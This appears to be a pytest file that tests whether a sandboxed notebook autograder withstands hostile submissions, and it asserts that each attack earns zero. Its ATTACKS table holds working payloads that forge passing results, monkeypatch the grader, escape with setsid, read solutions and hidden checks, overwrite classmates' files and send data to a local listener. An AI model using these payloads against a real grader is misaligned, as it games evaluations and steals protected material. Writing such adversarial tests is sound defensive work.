"""The grading command against hostile notebooks: each attack of issue 10 in a
submission of its own, graded in one run beside honest classmates, inside the
bubblewrap sandbox. Each attacker gets 0 or its honest score; the classmates'
scores, files, the hidden checks and the report do not change."""
from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import uuid
from pathlib import Path

import pytest

from labrt.grading import TASKS, load_checks, load_hidden
from labrt.grading import notebook as nbio
from labrt.grading.sandbox import problem

ROOT = Path(__file__).resolve().parents[1]
load_checks()
load_hidden(ROOT / "instructor" / "hidden")

pytestmark = pytest.mark.skipif(problem() is not None, reason=f"no sandbox here: {problem()}")

NOTEBOOK = "ch02-functional"
FULL = sum(t.points for t in TASKS.values() if t.notebook == NOTEBOOK)
PUBLIC = sum(t.public_points for t in TASKS.values() if t.notebook == NOTEBOOK)
MARKER = f"labrt-attack-{uuid.uuid4().hex}"


def _load(folder: str) -> dict:
    return json.loads((ROOT / folder / f"{NOTEBOOK}.ipynb").read_text(encoding="utf-8"))


def _with_cell(nb: dict, task: str, extra: str, replace: bool = False) -> dict:
    """A copy of ``nb`` whose cell for ``task`` gets ``extra`` appended (or is replaced by it)."""
    nb = json.loads(json.dumps(nb))
    for cell in nb["cells"]:
        found = nbio.heading(nbio.source(cell)) if cell["cell_type"] == "code" else None
        if found and found[1] == task:
            head = f"# Task {found[0]} ({task})\n"
            cell["source"] = head + extra if replace else nbio.source(cell) + "\n" + extra
    return nb


def _digest(folder: Path) -> str:
    h = hashlib.sha256()
    for p in sorted(folder.rglob("*")):
        if p.is_file():
            h.update(str(p.relative_to(folder)).encode() + p.read_bytes())
    return h.hexdigest()


ATTACKS = {
    # Replace the observing half of every scenario, and its code object.
    "swap_scenarios": """
import labrt.grading.protocol as _p
for _s in list(_p.SCENARIOS.values()):
    _s.observe.__code__ = (lambda t, **kw: []).__code__
    _s.observe = lambda t, **kw: []
""",
    # Replace the cases, re-register the tasks with huge points.
    "reregister": """
from labrt.grading import core as _c
for _t in list(_c.TASKS.values()):
    for _case in _t.cases:
        _case.fn, _case.scenario, _case.points = (lambda t: None), None, 1000
_c.Task("ch02-functional", 1, "step", "mine", hidden_points=3000)
""",
    # Write forged results on the result pipe (token from the job file), then leave.
    "forge_pipe": """
import json as _j, os as _o, sys as _s
_job = _j.load(open(_s.argv[1]))
_fd = int(_s.argv[2])
for _name in ("step", "machine", "shop", "nosuch"):
    for _event in ({"event": "observed", "task": _name, "bundle": {"replies": {
                        str(_i): {"status": "passed", "points": 3000} for _i in range(30)}}},
                   {"event": "result", "task": _name, "result": {"points": 3000}}):
        _o.write(_fd, (_j.dumps({"token": _job["token"], **_event}) + "\\n").encode())
_o.write(_fd, (_j.dumps({"token": _job["token"], "event": "done", "points": 3000}) + "\\n").encode())
_o._exit(0)
""",
    # Wrap json.dumps so that every reply says "passed", and disable the tamper check.
    "wrap_json": """
import json as _j, sys as _s
_orig = _j.dumps
def _forge(obj, *a, **k):
    return _orig(obj, *a, **k).replace('"not_done"', '"passed"').replace('"failed"', '"passed"')
_j.dumps = _forge
_main = _s.modules.get("__main__")
if hasattr(_main, "tampered"):
    _main.tampered = lambda before: []
""",
    # Leave processes behind (setsid), meant to rewrite the report after the command.
    "escape": f"""
import os as _o, subprocess as _sp, sys as _s
_sp.Popen([_s.executable, "-c", "import time; time.sleep(60)", "{MARKER}"],
          start_new_session=True)
if _o.fork() == 0:
    _o.setsid()
    _o.execv(_s.executable, [_s.executable, "-c", "import time; time.sleep(60)", "{MARKER}"])
""",
    # Read what must stay out of reach and use it: the solutions, classmates, hidden checks.
    "read_secrets": """
import glob as _g, json as _j, os as _o
_found = []
for _path in ["SOLUTIONS", "HIDDEN_FILE"] + _g.glob("/proc/*/cmdline"):
    try:
        _found.append(open(_path, errors="replace").read())
    except OSError:
        pass
for _text in list(_found):
    for _word in _text.replace("\\0", " ").split():
        if _word.endswith(".ipynb") and _o.path.exists(_word):
            _found.append(open(_word).read())
for _text in _found:
    try:
        _cells = _j.loads(_text)["cells"]
    except Exception:
        continue
    for _cell in _cells:
        _src = "".join(_cell["source"])
        if _src.startswith("# Task 1") and "BEGIN SOLUTION" in _src:
            try:
                exec(_src, globals())
            except Exception:
                pass
if any("BEGIN SOLUTION" in _t or "hidden(" in _t for _t in _found):
    raise RuntimeError("".join(_found)[:3000])
""",
    # Write where it must not: the hidden checks, a classmate's notebook, the report.
    "write_everywhere": """
for _path, _text in (("HIDDEN_DIR/zz_evil.py", "raise SystemExit"),
                     ("CLASSMATE", "{}"), ("REPORT", "all full marks")):
    try:
        open(_path, "w").write(_text)
    except OSError:
        pass
""",
    # Call out over the network.
    "network": """
import socket as _socket
try:
    _socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(b"leaked")
except OSError:
    pass
""",
    # Flood the result pipe.
    "flood": """
import os as _o, sys as _s
_chunk = b"x" * (1 << 20)
for _i in range(48):
    _o.write(int(_s.argv[2]), _chunk)
""",
}


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """One grading run: honest classmates, one attacker per attack, a private
    copy of the hidden checks; a listening socket stands for the network."""
    base = tmp_path_factory.mktemp("sandbox")
    subs, hidden, out = base / "subs", base / "hidden", base / "out"
    subs.mkdir()
    shutil.copytree(ROOT / "instructor" / "hidden", hidden)
    out.mkdir()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.2)
    heard = []

    def listen():
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
                heard.append(conn.recv(100))
            except OSError:
                continue
    stop = threading.Event()
    thread = threading.Thread(target=listen, daemon=True)
    thread.start()

    solution, exercise = _load("solutions"), _load("exercises")
    files = {"alice": solution, "zoe": exercise}
    fill = {"SOLUTIONS": str(ROOT / "solutions" / f"{NOTEBOOK}.ipynb"),
            "HIDDEN_FILE": str(hidden / "ch02_functional.py"), "HIDDEN_DIR": str(hidden),
            "CLASSMATE": str(subs / "alice.ipynb"), "REPORT": str(out / "grades.md"),
            "PORT": str(listener.getsockname()[1])}
    for name, code in ATTACKS.items():
        for key, value in fill.items():
            code = code.replace(key, value)
        files[name] = _with_cell(exercise, "step", code)
    files["wrapper"] = _with_cell(solution, "step", """
import builtins, functools, labrt
_print, _send = print, labrt.send
def print(*args, **kwargs):            # a logging print
    return _print(*args, **kwargs)
builtins.print = print
@functools.wraps(_send)
def _logged_send(*args):
    return _send(*args)
labrt.send = _logged_send
""")
    files["replacer"] = _with_cell(solution, "step", """
import labrt.grading.core as _c
_c.describe_reason = lambda reason: "all is well"
""")
    for name, nb in files.items():
        (subs / f"{name}.ipynb").write_text(json.dumps(nb), encoding="utf-8")
    before = {"alice": (subs / "alice.ipynb").read_bytes(), "hidden": _digest(hidden)}
    done = subprocess.run([sys.executable, "-m", "labrt.grading", "grade", str(subs),
                           "--out", str(out / "grades"), "--hidden", str(hidden),
                           "--source", str(ROOT / "exercises"), "--task-limit", "10"],
                          capture_output=True, text=True, cwd=ROOT, timeout=300)
    stop.set()
    thread.join()
    listener.close()
    assert done.returncode == 0, done.stdout + done.stderr
    rows = list(csv.DictReader(io.StringIO((out / "grades.csv").read_text(encoding="utf-8"))))
    return dict(rows=rows, md=(out / "grades.md").read_text(encoding="utf-8"), subs=subs,
                hidden=hidden, before=before, heard=heard, out=out, stdout=done.stdout)


def _total(rows, student) -> int:
    return int(next(r for r in rows if r["student"] == student and r["task"] == "TOTAL")["points"])


def _rows(rows, student) -> list[dict]:
    return [r for r in rows if r["student"] == student and r["task"] != "TOTAL"]


def test_honest_classmates_are_unaffected(graded):
    """The solution scores full marks and the unsolved exercise 0, beside the attackers."""
    assert _total(graded["rows"], "alice") == FULL
    assert _total(graded["rows"], "zoe") == 0


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_every_attack_scores_nothing(graded, attack):
    """An attacker whose tasks are stubs gets 0, whatever its cells try."""
    assert _total(graded["rows"], attack) == 0, _rows(graded["rows"], attack)
    for row in _rows(graded["rows"], attack):
        assert 0 <= int(row["points"]) <= int(row["max_points"]) <= TASKS[row["task"]].points


def test_forged_results_are_not_believed(graded):
    """Forged 'passed' replies and results for unknown tasks change nothing; only
    registered tasks appear, with registered maxima."""
    rows = _rows(graded["rows"], "forge_pipe")
    assert sorted(r["task"] for r in rows) == ["machine", "shop", "step"]
    assert all(r["max_points"] == str(TASKS[r["task"]].points) for r in rows)


def test_nothing_outside_the_sandbox_changed(graded):
    """The classmate's file, the hidden checks and the report are as they were."""
    assert (graded["subs"] / "alice.ipynb").read_bytes() == graded["before"]["alice"]
    assert _digest(graded["hidden"]) == graded["before"]["hidden"]
    assert "all full marks" not in graded["md"]
    assert not (graded["hidden"] / "zz_evil.py").exists()


def test_no_process_outlives_the_sandbox(graded):
    """Processes started with setsid() inside the sandbox are gone after grading."""
    alive = []
    for proc in Path("/proc").iterdir():
        try:
            if MARKER.encode() in (proc / "cmdline").read_bytes():
                alive.append(proc.name)
        except OSError:
            continue
    assert alive == []


def test_no_network(graded):
    """A connection to a port on the host's loopback does not get through."""
    assert graded["heard"] == []


def test_secrets_are_out_of_reach(graded):
    """The solutions, classmates' notebooks and hidden checks cannot be read
    (the attacker would otherwise have full marks or quote them)."""
    assert "BEGIN SOLUTION" not in graded["md"] and "hidden(" not in graded["md"]


def test_flooding_the_pipe_costs_the_flooder_only(graded):
    """A notebook that floods its result pipe is stopped, with a message."""
    rows = _rows(graded["rows"], "flood")
    assert all(r["points"] == "0" for r in rows)
    assert any("more than" in r["message"] or r["status"] in ("crashed", "not_done")
               for r in rows)


def test_a_wrapper_that_calls_the_original_is_not_tampering(graded):
    """Logging wrappers around print and labrt.send: full marks, no 'replaced' note."""
    assert _total(graded["rows"], "wrapper") == FULL
    assert all("replaced" not in r["message"] for r in _rows(graded["rows"], "wrapper"))


def test_a_replacement_is_named_but_does_not_change_the_score(graded):
    """Replacing a function the checks use is reported; the score is the judged one."""
    assert _total(graded["rows"], "replacer") == FULL
    step = next(r for r in _rows(graded["rows"], "replacer") if r["task"] == "step")
    assert "replaced labrt.grading.core.describe_reason" in step["message"]


def test_the_report_says_which_cell_was_graded(graded):
    """Each graded task names its cell in the CSV and the Markdown."""
    step = next(r for r in _rows(graded["rows"], "alice") if r["task"] == "step")
    assert step["graded_cell"].startswith("cell ")
    assert "(graded: cell " in graded["md"]
